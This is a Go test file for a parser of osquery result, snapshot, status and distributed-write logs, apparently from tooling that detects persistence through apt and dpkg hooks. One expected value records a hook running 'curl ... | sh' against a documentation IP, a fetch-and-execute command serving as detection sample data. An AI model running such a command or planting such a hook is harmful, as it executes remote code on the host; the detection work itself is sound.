package osqwire

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"testing"
)

// The samples in testdata follow osquery's log formats: events
// (log_result_events, the default), batches (diffResults), snapshots, and
// status lines, with times and numeric columns as numbers and as strings.
// log-snapshot-events.json is a snapshot logged with
// --logger_snapshot_event_type: osquery's serializeQueryLogItemAsEvents
// (osquery/core/query.cpp) writes each snapshot row as its own event, its
// row in "columns" and "snapshot" as its action.

func load(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func summary(rs []Result) string {
	var out []string
	for _, r := range rs {
		var cols []string
		for k, v := range r.Columns {
			cols = append(cols, k+"="+v)
		}
		sort.Strings(cols)
		out = append(out, fmt.Sprintf("%s %s %s %d/%d/%d %s host_uuid=%s", r.Name, r.HostIdentifier, r.Action, r.UnixTime, r.Epoch, r.Counter, strings.Join(cols, ","), r.Decorations["host_uuid"]))
	}
	return strings.Join(out, "\n")
}

func TestDecodeLogFormats(t *testing.T) {
	for file, want := range map[string]string{
		"log-events.json": "pack_pkgpersist_unowned-hooks web1 added 1795377600/0/3 command=curl -fsS http://203.0.113.7/p | sh,line=1,path=/etc/apt/apt.conf.d/99x host_uuid=U1\n" +
			"pack_pkgpersist_unowned-hooks web1 removed 1795377600/0/3 command=old,line=7,path=/etc/apt/apt.conf.d/98y host_uuid=U1",
		"log-batch.json": "pack_pkgpersist-core_pm-children web1 added 1795377900/0/1 path=/bin/sh,pid=10 host_uuid=U1\n" +
			"pack_pkgpersist-core_pm-children web1 added 1795377900/0/1 path=/usr/bin/curl,pid=11 host_uuid=U1\n" +
			"pack_pkgpersist-core_pm-children web1 removed 1795377900/0/1 path=/bin/true,pid=9 host_uuid=U1",
		"log-snapshot.json": "pack_pkgpersist_hooks-inventory web1 snapshot 1795378200/0/0 command=x,hook=DPkg::Post-Invoke host_uuid=\n" +
			"pack_pkgpersist_hooks-inventory web1 snapshot 1795378200/0/0 command=y,hook=APT::Update::Pre-Invoke host_uuid=",
		"log-snapshot-events.json": "pack_pkgpersist_hooks-inventory web1 snapshot 1795378200/0/0 command=x,hook=DPkg::Post-Invoke host_uuid=U1\n" +
			"pack_pkgpersist_hooks-inventory web1 snapshot 1795378200/0/0 command=y,hook=APT::Update::Pre-Invoke host_uuid=U1",
	} {
		l, err := DecodeLog(load(t, file))
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if l.NodeKey != "k1" || l.Type != "result" {
			t.Errorf("%s: node %q type %q", file, l.NodeKey, l.Type)
		}
		if got := summary(l.Results); got != want {
			t.Errorf("%s:\n got %s\nwant %s", file, got, want)
		}
	}
	l, err := DecodeLog(load(t, "log-status.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(l.Statuses) != 1 || l.Statuses[0].Severity != 1 || l.Statuses[0].Line != 83 || l.Statuses[0].UnixTime != 1795377601 ||
		!strings.Contains(l.Statuses[0].Message, "no such table") || l.Statuses[0].Version != "5.12.1" {
		t.Errorf("status: %+v", l.Statuses)
	}
}

func TestDecodeWrite(t *testing.T) {
	key, answers, err := DecodeWrite(load(t, "distributed-write.json"))
	if err != nil {
		t.Fatal(err)
	}
	ok, empty, bad := answers["pkgpersist:7:unowned-hooks"], answers["pkgpersist:7:hooks-inventory"], answers["pkgpersist:7:bad"]
	if key != "k1" || len(answers) != 3 || ok == nil || empty == nil || bad == nil {
		t.Fatalf("%q %v", key, answers)
	}
	if len(ok.Rows) != 1 || ok.Rows[0]["line"] != "1" || ok.Status != 0 {
		t.Errorf("answer: %+v", ok)
	}
	if len(empty.Rows) != 0 || empty.Status != 0 {
		t.Errorf("empty answer: %+v", empty)
	}
	if bad.Status != 1 || bad.Message != "no such table: apt_hooks" {
		t.Errorf("failed answer: %+v", bad)
	}
}

func TestDecodeRejects(t *testing.T) {
	for what, body := range map[string]string{
		"not JSON":          `{"node_key":`,
		"trailing data":     `{"node_key":"k","log_type":"result","data":[]} {}`,
		"unknown log type":  `{"node_key":"k","log_type":"x","data":[]}`,
		"nameless result":   `{"node_key":"k","log_type":"result","data":[{"action":"added","columns":{}}]}`,
		"unknown format":    `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"moved"}]}`,
		"event no columns":  `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"added"}]}`,
		"snapshot no rows":  `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"snapshot"}]}`,
		"object column":     `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"added","columns":{"a":{}}}]}`,
		"bad time":          `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"added","unixTime":"soon","columns":{}}]}`,
		"data not an array": `{"node_key":"k","log_type":"result","data":"x"}`,
	} {
		if _, err := DecodeLog([]byte(body)); err == nil {
			t.Errorf("%s accepted", what)
		}
	}
	for what, body := range map[string]string{
		"rows not a list": `{"node_key":"k","queries":{"q":{}}}`,
		"bad status":      `{"node_key":"k","statuses":{"q":"failed"}}`,
		"nested value":    `{"node_key":"k","queries":{"q":[{"a":[1]}]}}`,
	} {
		if _, _, err := DecodeWrite([]byte(body)); err == nil {
			t.Errorf("write: %s accepted", what)
		}
	}
}

func TestRowLimit(t *testing.T) {
	rows := strings.Repeat(`{},`, MaxRows) + `{}`
	body := `{"node_key":"k","log_type":"result","data":[{"name":"q","action":"snapshot","snapshot":[` + rows + `]}]}`
	if _, err := DecodeLog([]byte(body)); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Errorf("row limit: %v", err)
	}
}

// FuzzDecodeLog: no input panics, and whatever decodes re-decodes the same
// after a round trip through the normal form.
func FuzzDecodeLog(f *testing.F) {
	for _, n := range []string{"log-events.json", "log-batch.json", "log-snapshot.json", "log-snapshot-events.json", "log-status.json"} {
		f.Add(load(f, n))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		l, err := DecodeLog(body)
		if err != nil {
			return
		}
		for _, r := range l.Results {
			if r.Action != "added" && r.Action != "removed" && r.Action != "snapshot" {
				t.Fatalf("action %q", r.Action)
			}
			cols, _ := json.Marshal(r.Columns)
			again, err := DecodeLog([]byte(`{"log_type":"result","data":[{"name":"q","action":"added","columns":` + string(cols) + `}]}`))
			if err != nil || len(again.Results) != 1 || fmt.Sprint(again.Results[0].Columns) != fmt.Sprint(r.Columns) {
				t.Fatalf("columns %v do not survive a round trip: %v", r.Columns, err)
			}
		}
	})
}

// FuzzDecodeWrite: no input panics; every answer has a row list or a status.
func FuzzDecodeWrite(f *testing.F) {
	f.Add(load(f, "distributed-write.json"))
	f.Add([]byte(`{"node_key":"k","queries":{"q":[{"a":1.5e3,"b":null,"c":true}]},"statuses":{"q":"0"}}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		_, answers, err := DecodeWrite(body)
		if err != nil {
			return
		}
		for id, a := range answers {
			if a == nil {
				t.Fatalf("nil answer for %q", id)
			}
		}
	})
}
